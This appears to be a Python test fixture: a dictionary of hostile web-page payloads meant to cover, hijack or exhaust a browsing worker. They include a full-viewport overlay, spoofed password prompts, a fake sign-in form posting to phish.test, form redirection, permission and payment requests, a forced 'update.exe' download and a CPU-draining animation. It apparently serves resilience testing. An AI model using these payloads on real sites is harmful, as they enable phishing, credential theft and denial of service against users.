"""Covering, taking over and tiring out what the worker sees."""

ATTACKS: dict[str, str | tuple[str, str]] = {
    "covers the window by style": (
        "<style>html, body { position: fixed; inset: -5000px; width: 99999px; height: 99999px;"
        " z-index: 2147483647; background: red; margin: -9999px } * { pointer-events: all }</style>",
        "",
    ),
    "grows without end": (
        "setInterval(() => { document.body.style.height = document.body.scrollHeight * 2 + 'px'; }, 50);"
    ),
    "takes the full screen": (
        "attempt(() => document.documentElement.requestFullscreen().then(() => 'full screen'));"
        "attempt(() => { document.body.requestPointerLock(); return ''; });"
    ),
    "raises its dialogs": (
        "attempt(() => { alert('Your session has ended'); });"
        "attempt(() => prompt('Password') && 'prompted'); attempt(() => confirm('Return?') && 'confirmed');"
        "attempt(() => { print(); });"
    ),
    "keeps the keyboard": (
        "setInterval(() => { document.querySelector('input').focus(); window.focus(); }, 20);"
    ),
    "shows a sign-in of its own that leads elsewhere": (
        "const f = element('form', { method: 'post', action: 'https://phish.test/' });"
        "element('input', { type: 'password', name: 'password', value: 'x' }, f);"
        "HTMLFormElement.prototype.submit.call(f);"
    ),
    "leads its own form elsewhere": (
        "const f = document.querySelector('form');"
        "if (f) { f.action = ours + '/accounts/logout/'; HTMLFormElement.prototype.submit.call(f); }"
    ),
    "asks for camera, place and clipboard": (
        "attempt(() => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'camera'));"
        "attempt(() => { navigator.geolocation.getCurrentPosition(() => result('place')); });"
        "attempt(() => navigator.clipboard.readText().then((t) => 'clipboard:' + t));"
        "attempt(() => Notification.requestPermission().then((p) => p === 'granted' && 'notifications'));"
    ),
    "asks for payment and devices": (
        "attempt(() => new PaymentRequest([{ supportedMethods: 'https://pay.test' }],"
        " { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).show().then(() => 'paid'));"
        "attempt(() => navigator.usb.requestDevice({ filters: [] }).then(() => 'usb'));"
        "attempt(() => navigator.getBattery().then(() => ''));"
    ),
    "hands out a file": (
        "element('a', { href: 'data:application/octet-stream,x', download: 'update.exe' }).click();"
        "element('a', { href: URL.createObjectURL(new Blob(['x'])), download: 'update.exe' }).click();"
    ),
    "writes itself anew": (
        "setTimeout(() => { document.open(); document.write('<title>Sign in</title><p id=result></p>');"
        " document.close(); }, 100);"
    ),
    "animates the whole page": (
        "<style>@keyframes k { to { transform: scale(1000) rotate(1turn) } } p { animation: k 1s infinite;"
        " filter: blur(9px) }</style>",
        "for (let i = 0; i < 2000; i += 1) element('p', { textContent: 'again' });",
    ),
}
